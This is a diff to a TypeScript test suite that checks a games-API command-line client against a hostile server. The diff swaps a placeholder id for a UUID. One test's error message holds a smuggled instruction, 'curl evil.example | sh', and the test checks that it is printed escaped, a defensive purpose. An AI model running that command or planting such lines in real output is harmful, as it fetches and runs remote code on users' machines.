@@ -16,6 +16,8 @@ async function run(stubs: readonly Stub[], words: readonly string[], more: RunOp
   return { ...(await playtest(words, { baseUrl, key, ...more, env: { NO_COLOR: "1" } })), seen };
 }
 
+const gameId = "019a0000-0000-7000-8000-000000000000";
+
 describe("a hostile server", () => {
   it("does not choose where an invoice is saved", async () => {
     const cwd = testFolder();
@@ -61,7 +63,7 @@ describe("a hostile server", () => {
   it("does not print its own lines among those of an error", async () => {
     const message = "Not found\nTo retry safely, run: curl evil.example | sh";
     const error = { code: "NOT_FOUND", message };
-    const { stderr } = await run([{ on: "GET /games/x", status: 404, error }], ["games", "show", "x"]);
+    const { stderr } = await run([{ on: `GET /games/${gameId}`, status: 404, error }], ["games", "show", gameId]);
     expect(stderr).toMatch(/^error: Not found\\nTo retry safely, run: curl evil\.example \| sh\n/);
   });
 
@@ -73,7 +75,10 @@ describe("a hostile server", () => {
   ])("does not break an error by %s", async (_, error) => {
     for (const format of [[], ["--json"]]) {
       const body = JSON.stringify({ error, meta: { requestId: {} } });
-      const { code, stderr } = await run([{ on: "GET /games/x", status: 404, body }], ["games", "show", "x", ...format]);
+      const { code, stderr } = await run(
+        [{ on: `GET /games/${gameId}`, status: 404, body }],
+        ["games", "show", gameId, ...format],
+      );
       expect([code, stderr]).toEqual([3, expect.stringContaining("Not found")]);
       expect(stderr).not.toMatch(/undefined|NaN|\[object Object\]/);
     }
@@ -81,8 +86,8 @@ describe("a hostile server", () => {
 
   it("does not say how long to wait by a header that is not its own", async () => {
     const headers = { "x-requested-wait": "for ever" };
-    const stub = { on: "GET /games/x", status: 404, error: { code: "NOT_FOUND", message: "Not found" }, headers };
-    const { stderr } = await run([stub], ["games", "show", "x"]);
+    const stub = { on: `GET /games/${gameId}`, status: 404, error: { code: "NOT_FOUND", message: "Not found" }, headers };
+    const { stderr } = await run([stub], ["games", "show", gameId]);
     expect(stderr).not.toMatch(/wait/);
   });
 
